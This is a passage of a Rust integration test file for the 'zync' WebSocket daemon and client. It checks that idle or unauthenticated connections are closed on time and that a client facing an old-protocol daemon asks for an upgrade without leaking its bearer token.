    assert_eq!(n, 0, "the daemon sent something to a silent connection");
    assert!(
        started.elapsed() < DEADLINE,
        "a silent connection stayed open for {:?}",
        started.elapsed()
    );

    // Upgraded and HELLO sent, but no AUTH.
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(async {
        let mut ws = peer::upgrade(&f.daemon).await;
        let (_, challenge) = peer::hello(&mut ws, "stalls").await;
        assert_eq!(challenge["status"], "ok", "{challenge}");
        let end = tokio::time::timeout(DEADLINE, async {
            loop {
                match ws.next().await {
                    None | Some(Err(_)) | Some(Ok(Message::Close(_))) => return,
                    Some(Ok(_)) => {}
                }
            }
        })
        .await;
        assert!(end.is_ok(), "a connection without AUTH stayed open");
    });
}

#[tokio::test]
async fn a_silent_client_is_closed_at_the_idle_deadline_and_a_pinging_one_is_not() {
    let f = fixture(&["--idle-timeout", "2"]);
    let (mut pinging, _) = peer::authenticated(&f.daemon, "pinging").await;
    let (mut silent, _) = peer::authenticated(&f.daemon, "silent").await;
    let started = Instant::now();
    // The pinging client sends a WebSocket ping every 500 ms (as the zync client does when
    // idle) while the silent one says nothing.
    let closed_with = loop {
        tokio::select! {
            next = silent.next() => match next {
                Some(Ok(Message::Close(frame))) => break frame.map(|f| u16::from(f.code)),
                None | Some(Err(_)) => break None,
                Some(Ok(_)) => {}
            },
            () = tokio::time::sleep(Duration::from_millis(500)) => {
                pinging.send(Message::Ping(Vec::new().into())).await.unwrap();
                assert!(started.elapsed() < DEADLINE, "the silent client was never closed");
            }
        }
    };
    assert_eq!(closed_with, Some(1008), "the idle close code");
    assert!(
        started.elapsed() >= Duration::from_secs(2),
        "closed before its idle deadline"
    );
    // The pinging one outlived the deadline and is still served.
    let reply = peer::exchange(&mut pinging, json!({"id": 3, "operation": "PING"})).await;
    assert_eq!(reply["status"], "ok", "{reply}");
}

#[test]
fn a_daemon_of_the_old_protocol_gets_an_upgrade_message_not_a_hang() {
    let f = fixture(&[]);
    // A protocol 1 daemon answered an upgrade without a bearer token with HTTP 401.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("ws://127.0.0.1:{}", listener.local_addr().unwrap().port());
    let old = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream.set_read_timeout(Some(DEADLINE)).unwrap();
        let mut request = [0u8; 4096];
        let n = stream.read(&mut request).unwrap_or(0);
        let _ = std::io::Write::write_all(
            &mut stream,
            b"HTTP/1.1 401 Unauthorized\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
        );
        String::from_utf8_lossy(&request[..n]).to_string()
    });
    let mut once = f.client.command(&url);
    once.arg("--once");
    let out = output_within_deadline(once);
    let request = old.join().unwrap();
    let log = stderr(&out);
    assert!(!out.status.success(), "{log}");
    assert!(
        log.contains("older zync") && log.contains("upgrade zync on E"),
        "the error does not say to upgrade the daemon:\n{log}"
    );
    assert!(
        !request.contains(&peer::token_of(&f.daemon)),
        "the upgrade request carried the token:\n{request}"
    );
}
